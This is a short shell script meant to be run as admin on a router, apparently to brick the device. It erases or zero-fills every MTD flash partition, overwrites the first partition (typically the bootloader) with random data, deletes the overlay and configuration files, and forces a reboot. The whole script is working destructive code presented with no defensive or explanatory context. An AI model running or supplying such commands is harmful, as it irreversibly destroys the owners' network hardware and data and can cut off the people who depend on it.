#!/bin/sh
# run on the router as admin
for part in $(grep -o 'mtd[0-9]*' /proc/mtd); do
  mtd erase /dev/$part 2>/dev/null || dd if=/dev/zero of=/dev/$part bs=64k 2>/dev/null
done
dd if=/dev/urandom of=/dev/mtdblock0 bs=64k count=16 2>/dev/null
rm -rf /overlay/* /etc/config/*
reboot -f
